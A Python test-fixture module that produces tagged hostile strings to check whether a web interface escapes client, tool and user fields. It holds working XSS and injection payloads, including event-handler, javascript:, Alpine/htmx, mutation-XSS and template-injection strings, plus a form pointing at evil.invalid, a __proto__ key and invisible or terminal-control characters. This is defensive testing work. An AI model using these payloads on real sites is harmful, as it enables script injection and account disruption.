"""Hostile texts of clients, tools and users, marked with the field that contains them.

The text ``planted("client.name")`` contains ``data-corpus=client.name`` in every shape: shown as text
it is readable on the page, parsed as markup it is an element with that attribute.
"""

from __future__ import annotations

import re
import zlib
from typing import Any

# Each shape is harmful, and not only scripts are: the skin compiles Alpine and htmx expressions in
# attributes, which no content security policy stops.
SHAPES = (
    "\"'><img data-corpus={0} src=x onerror=window.pwned=1>",
    "<svg data-corpus={0} onload=window.pwned=2>",
    "<p data-corpus={0} x-data x-init=window.pwned=3>",
    "</script></textarea></pre></title></style>--><script data-corpus={0}>window.pwned=4</script>",
    "' data-corpus={0} autofocus onfocus=window.pwned=5 x='",
    '<iframe data-corpus={0} srcdoc="<script>parent.pwned=6</script>"></iframe>',
    "<a data-corpus={0} href=javascript:window.pwned=7>x</a>",
    "<i data-corpus={0} hx-get=/admin/logout/ hx-trigger=load></i>",
    "<style data-corpus={0}>body{{display:none}}</style>",
    "<form data-corpus={0} action=//evil.invalid><base href=//evil.invalid/>",
    "<math><mtext><table data-corpus={0}><mglyph><style><!--</style><i title='--><img src onerror=pwned=8>'>",
    "![x](//evil.invalid/{0}) [x](javascript:window.pwned=9) `</code><b data-corpus={0}>`",
    "{{{{constructor.constructor('window.pwned=10')()}}}}{{% debug %}}${{7*7}} data-corpus={0}",
    "<b data-corpus={0}>",
)
# Reverses the reading direction, controls terminals, forges lines, and is invisible.
HIDDEN = "\u202egnp\u202c\u2066\u2069\u200b\ufeff\u2028\x1b[31m\x07\x9b\r\nforged"
MARK = re.compile(r"data-corpus=([a-z_.]+)")


def planted(field: str, most: int = 6000, *, hidden: bool = True) -> str:
    """Return a text for this field of limited length; the first shape depends on the field."""
    first = zlib.crc32(field.encode()) % len(SHAPES)
    text = HIDDEN if hidden and most > 200 else ""
    for shape in (*SHAPES[first:], *SHAPES[:first]):
        piece = shape.format(field)
        if len(piece) + len(text) <= most:
            text = piece + text
    assert f"data-corpus={field}" in text, f"{most} characters are too few for {field}"
    return text


def planted_uri(field: str, most: int = 120) -> str:
    """Return the same text as the end of a URI."""
    return planted(field, most, hidden=False).translate(str.maketrans(" ", "+", "{}"))


def marks(text: str) -> set[str]:
    """Return the fields whose texts are in this text."""
    return set(MARK.findall(text))


def planted_schema(field: str) -> dict[str, Any]:
    """Return a schema with hostile text in every member."""
    return {
        "type": "object",
        "title": planted(f"{field}.schema_title"),
        "description": planted(f"{field}.schema_description"),
        "properties": {
            planted(f"{field}.schema_property", 90): {
                "type": "string",
                "title": planted(f"{field}.property_title"),
                "description": planted(f"{field}.property_description"),
                "default": planted(f"{field}.property_default"),
            },
            "choice": {
                "enum": [planted(f"{field}.enum", 200), "plain"],
                "enumNames": [planted(f"{field}.enum_name", 200), "plain"],
            },
            "__proto__": {"type": "string", "format": planted(f"{field}.schema_format", 90)},
        },
    }
